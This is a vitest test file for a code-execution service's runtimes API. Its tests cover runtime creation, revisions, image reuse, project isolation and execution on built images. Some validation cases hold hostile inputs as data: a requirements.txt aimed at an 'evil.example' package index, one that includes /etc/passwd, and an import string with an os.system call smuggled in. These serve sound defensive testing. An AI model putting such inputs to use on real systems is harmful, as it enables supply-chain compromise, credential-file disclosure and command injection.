import { describe, expect, it } from 'vitest';
import { runtimeImageTag } from '../../../../src/runtimes/builds/image-build.js';
import { buildTestApp, PROJECT_B_KEY, type ErrorBody } from '../../../helpers/app-fixture.js';

interface RuntimeBody {
  id: string;
  name: string;
  language: string;
  revision_id: string;
  status: string;
  manifest_file: { name: string; contents: string };
  additional_python_imports?: string;
  failure_reason?: string;
}
type App = Awaited<ReturnType<typeof buildTestApp>>;

const pyRuntime = { name: 'data', language: 'python', manifest_file: { name: 'requirements.txt', contents: 'kilnpkg==1.0.0\n' } };
const jsRuntime = {
  name: 'pad',
  language: 'javascript',
  manifest_file: { name: 'package.json', contents: '{"dependencies":{"left-pad":"1.3.0"}}' },
};
const fields = (body: ErrorBody) => (body.details ?? []).map((d) => d.field);

async function create(app: App, body: object = pyRuntime): Promise<RuntimeBody> {
  const res = await app.request('POST', '/v1/runtimes', body);
  expect(res.status, await res.clone().text()).toBe(200);
  return (await res.json()) as RuntimeBody;
}

async function rejects(app: App, path: string, body: object, field: string): Promise<ErrorBody> {
  const res = await app.request('POST', path, body);
  expect(res.status).toBe(400);
  const err = (await res.json()) as ErrorBody;
  expect(fields(err)).toContain(field);
  return err;
}

describe('/v1/runtimes', () => {
  it("creates a runtime in Riza's shape, pending, and queues its build", async () => {
    const app = await buildTestApp();
    const rt = await create(app, { ...pyRuntime, additional_python_imports: 'import kilnpkg' });
    expect(rt).toEqual({
      id: expect.stringMatching(/^rt_/),
      name: 'data',
      language: 'python',
      revision_id: expect.stringMatching(/^rtrev_/),
      status: 'pending',
      manifest_file: pyRuntime.manifest_file,
      additional_python_imports: 'import kilnpkg',
    });
    expect(app.builds.map((b) => b.id)).toEqual([rt.revision_id]);
    expect(await (await app.request('GET', `/v1/runtimes/${rt.id}`)).json()).toEqual(rt);
  });

  it.each([
    [
      'a manifest that does not suit the language',
      'manifest_file.name',
      { ...pyRuntime, manifest_file: { name: 'package.json', contents: '{}' } },
    ],
    ['typescript (it runs on a javascript runtime)', 'language', { ...pyRuntime, language: 'typescript' }],
    ['an unknown manifest name', 'manifest_file.name', { ...pyRuntime, manifest_file: { name: 'Pipfile', contents: '' } }],
    [
      'a package.json that is not JSON',
      'manifest_file.contents',
      { ...jsRuntime, manifest_file: { name: 'package.json', contents: '{"dependencies":' } },
    ],
    [
      'a package.json that is an array',
      'manifest_file.contents',
      { ...jsRuntime, manifest_file: { name: 'package.json', contents: '[]' } },
    ],
    [
      'a requirements.txt that names another index',
      'manifest_file.contents',
      { ...pyRuntime, manifest_file: { name: 'requirements.txt', contents: '--index-url http://evil.example/simple\nkilnpkg\n' } },
    ],
    [
      'a requirements.txt that includes a file of the box',
      'manifest_file.contents',
      { ...pyRuntime, manifest_file: { name: 'requirements.txt', contents: '-r /etc/passwd\n' } },
    ],
    ['imports on a javascript runtime', 'additional_python_imports', { ...jsRuntime, additional_python_imports: 'import os' }],
    [
      'an import that is not a module name',
      'additional_python_imports',
      { ...pyRuntime, additional_python_imports: 'import os; os.system("x")' },
    ],
    ['an empty name', 'name', { ...pyRuntime, name: '' }],
    ['no manifest', 'manifest_file', { name: 'x', language: 'python' }],
  ])('rejects %s naming %s, and stores nothing', async (_what, field, body) => {
    const app = await buildTestApp();
    await rejects(app, '/v1/runtimes', body, field);
    expect(await (await app.request('GET', '/v1/runtimes')).json()).toEqual({ runtimes: [] });
    expect(app.builds).toEqual([]);
  });

  it('adds revisions (the runtime follows its newest), lists them newest first, and pages', async () => {
    const app = await buildTestApp();
    const rt = await create(app);
    const res = await app.request('POST', `/v1/runtimes/${rt.id}/revisions`, {
      manifest_file: { name: 'requirements.txt', contents: 'kilnpkg==2.0.0\n' },
    });
    expect(res.status).toBe(200);
    const rev = (await res.json()) as { id: string; runtime_id: string; status: string };
    expect(rev).toMatchObject({
      runtime_id: rt.id,
      status: 'pending',
      manifest_file: { name: 'requirements.txt', contents: 'kilnpkg==2.0.0\n' },
    });
    expect(((await (await app.request('GET', `/v1/runtimes/${rt.id}`)).json()) as RuntimeBody).revision_id).toBe(rev.id);
    const list = (await (await app.request('GET', `/v1/runtimes/${rt.id}/revisions`)).json()) as { revisions: { id: string }[] };
    expect(list.revisions.map((r) => r.id)).toEqual([rev.id, rt.revision_id]);
    const second = (await (await app.request('GET', `/v1/runtimes/${rt.id}/revisions?limit=1&starting_after=${rev.id}`)).json()) as {
      revisions: { id: string }[];
    };
    expect(second.revisions.map((r) => r.id)).toEqual([rt.revision_id]);
    expect((await app.request('GET', `/v1/runtimes/${rt.id}/revisions/${rt.revision_id}`)).status).toBe(200);
    // a revision is found under its own runtime only
    const other = await create(app, jsRuntime);
    expect((await app.request('GET', `/v1/runtimes/${other.id}/revisions/${rt.revision_id}`)).status).toBe(404);
  });

  it('builds equal content once: the same packages written another way share one image key; a built key is reused at once', async () => {
    const app = await buildTestApp();
    const a = await create(app);
    const b = await create(app, {
      ...pyRuntime,
      manifest_file: { name: 'requirements.txt', contents: '# pinned\r\nkilnpkg==1.0.0   \r\n\r\n' },
    });
    const c = await create(app, { ...pyRuntime, manifest_file: { name: 'requirements.txt', contents: 'kilnpkg==1.0.1\n' } });
    expect(app.builds[0]!.imageKey).toBe(app.builds[1]!.imageKey);
    expect(app.builds[2]!.imageKey).not.toBe(app.builds[0]!.imageKey);
    await app.finishBuild(app.builds[0]!, 'succeeded');
    for (const rt of [a, b])
      expect(((await (await app.request('GET', `/v1/runtimes/${rt.id}`)).json()) as RuntimeBody).status).toBe('succeeded');
    expect(((await (await app.request('GET', `/v1/runtimes/${c.id}`)).json()) as RuntimeBody).status).toBe('pending');
    const d = await create(app);
    expect(d.status).toBe('succeeded');
    expect(app.builds).toHaveLength(3); // nothing queued for d
  });

  it('keeps projects apart: another project sees 404s, an empty list, and cannot run on the revision', async () => {
    const app = await buildTestApp();
    const rt = await create(app);
    await app.finishBuild(app.builds[0]!, 'succeeded');
    const b = (method: string, path: string, body?: unknown) => app.request(method, path, body, PROJECT_B_KEY);
    expect((await b('GET', `/v1/runtimes/${rt.id}`)).status).toBe(404);
    expect((await b('GET', `/v1/runtimes/${rt.id}/revisions`)).status).toBe(404);
    expect((await b('GET', `/v1/runtimes/${rt.id}/revisions/${rt.revision_id}/logs`)).status).toBe(404);
    expect(await (await b('GET', '/v1/runtimes')).json()).toEqual({ runtimes: [] });
    expect((await b('DELETE', `/v1/runtimes/${rt.id}`)).status).toBe(404);
    const run = await b('POST', '/v1/execute', { language: 'python', code: 'print(1)', runtime_revision_id: rt.revision_id });
    expect(run.status).toBe(400);
    expect(((await run.json()) as ErrorBody).message).toContain('not found');
    expect(app.jobs).toHaveLength(0);
  });

  it('deletes a runtime with its revisions', async () => {
    const app = await buildTestApp();
    const rt = await create(app);
    expect(await (await app.request('DELETE', `/v1/runtimes/${rt.id}`)).json()).toEqual({ id: rt.id, deleted: true });
    expect((await app.request('GET', `/v1/runtimes/${rt.id}`)).status).toBe(404);
    expect((await app.request('DELETE', `/v1/runtimes/${rt.id}`)).status).toBe(404);
    const run = await app.request('POST', '/v1/execute', { language: 'python', code: 'print(1)', runtime_revision_id: rt.revision_id });
    expect(fields((await run.json()) as ErrorBody)).toEqual(['runtime_revision_id']);
  });
});

describe('runtime_revision_id on every surface', () => {
  it('refuses a revision not yet built with its status, a failed one with its reason, and runs on a built one in its image', async () => {
    const app = await buildTestApp();
    const rt = await create(app);
    const body = { language: 'python', code: 'def execute(input):\n    return 1\n', runtime_revision_id: rt.revision_id };
    const pending = (await (await app.request('POST', '/v1/execute-function', body)).json()) as ErrorBody;
    expect(pending.message).toContain('pending');
    expect(pending.details![0]).toMatchObject({ field: 'runtime_revision_id', reason: 'build_pending' });

    await app.finishBuild(app.builds[0]!, 'failed', 'ERROR: No matching distribution found for kilnpkg==1.0.0');
    const failed = (await (await app.request('POST', '/v1/execute-function', body)).json()) as ErrorBody;
    expect(failed.message).toContain('No matching distribution found for kilnpkg');
    const log = await (await app.request('GET', `/v1/runtimes/${rt.id}/revisions/${rt.revision_id}/logs`)).json();
    expect(log).toEqual({ revision_id: rt.revision_id, status: 'failed', log: 'unit build failed\n' });
    expect(app.jobs).toHaveLength(0);

    const ok = await create(app, { ...pyRuntime, manifest_file: { name: 'requirements.txt', contents: 'kilnpkg\n' } });
    await app.finishBuild(app.builds[1]!, 'succeeded');
    for (const path of ['/v1/execute-function', '/v1/execute']) {
      const res = await app.request('POST', path, { ...body, runtime_revision_id: ok.revision_id });
      expect(res.status).toBe(200);
    }
    expect(app.jobs.map((j) => j.runtime.image)).toEqual([
      runtimeImageTag(app.builds[1]!.imageKey),
      runtimeImageTag(app.builds[1]!.imageKey),
    ]);
    expect(app.jobs[0]!.runtime.key).not.toBe('python');
  });

  it('runs TypeScript on a javascript runtime, refuses Python there (and JavaScript on a python one)', async () => {
    const app = await buildTestApp();
    const js = await create(app, jsRuntime);
    const py = await create(app);
    for (const b of app.builds) await app.finishBuild(b, 'succeeded');
    const ts = await app.request('POST', '/v1/execute', {
      language: 'typescript',
      code: 'const x: number = 1; console.log(x)',
      runtime_revision_id: js.revision_id,
    });
    expect(ts.status).toBe(200);
    expect(app.jobs[0]!.runtime).toMatchObject({ language: 'typescript', image: runtimeImageTag(app.builds[0]!.imageKey) });
    for (const [language, rev] of [
      ['python', js.revision_id],
      ['javascript', py.revision_id],
    ] as const) {
      const res = await app.request('POST', '/v1/execute', { language, code: 'print(1)', runtime_revision_id: rev });
      expect(res.status).toBe(400);
      expect(((await res.json()) as ErrorBody).details![0]).toMatchObject({ field: 'runtime_revision_id', reason: 'wrong_language' });
    }
  });

  it('saves a tool on a runtime still building, refuses to run it until built, then runs it in that image', async () => {
    const app = await buildTestApp();
    const rt = await create(app);
    const toolRes = await app.request('POST', '/v1/tools', {
      name: 't',
      language: 'python',
      code: 'def execute(input):\n    return input\n',
      runtime_revision_id: rt.revision_id,
    });
    expect(toolRes.status).toBe(200);
    const tool = (await toolRes.json()) as { id: string; runtime_revision_id: string };
    expect(tool.runtime_revision_id).toBe(rt.revision_id);
    const early = await app.request('POST', `/v1/tools/${tool.id}/execute`, { input: 1 });
    expect(early.status).toBe(400);
    expect(((await early.json()) as ErrorBody).details![0]).toMatchObject({ field: 'tool.runtime_revision_id', reason: 'build_pending' });
    await app.finishBuild(app.builds[0]!, 'succeeded');
    expect((await app.request('POST', `/v1/tools/${tool.id}/execute`, { input: 1 })).status).toBe(200);
    expect(app.jobs[0]!.runtime.image).toBe(runtimeImageTag(app.builds[0]!.imageKey));
    // a tool cannot name a runtime of another language
    const wrong = await app.request('POST', '/v1/tools', {
      name: 't',
      language: 'javascript',
      code: 'export function execute(i) { return i }',
      runtime_revision_id: rt.revision_id,
    });
    expect(fields((await wrong.json()) as ErrorBody)).toEqual(['runtime_revision_id']);
  });
});
